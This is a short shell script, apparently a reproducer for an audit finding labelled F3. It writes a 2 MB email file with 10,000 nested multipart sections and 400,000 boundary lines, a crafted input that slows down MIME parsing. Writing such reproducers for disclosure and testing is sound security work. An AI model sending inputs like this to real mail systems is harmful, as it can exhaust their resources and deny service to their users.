#!/bin/sh
# slow-mime-deep-nesting.sh [OUT] - write the 2 MB input of finding F3
# (see slow-mime-deep-nesting.txt): 10000 nested multiparts, then 400000
# "--x" lines. Default OUT: slow-mime-deep-nesting.eml beside this script.
out=${1:-"$(dirname "$0")/slow-mime-deep-nesting.eml"}
awk 'BEGIN {
	printf "From: r@example.net\nSubject: hi\n"
	printf "Content-Type: multipart/mixed;boundary=0\n\n"
	for (i = 1; i < 10000; i++)
		printf "--%x\nContent-Type:multipart/mixed;boundary=%x\n\n", i - 1, i
	printf "--%x\nContent-Type: text/plain\n\n", 9999
	for (i = 0; i < 400000; i++)
		printf "--x\n"
}' > "$out"
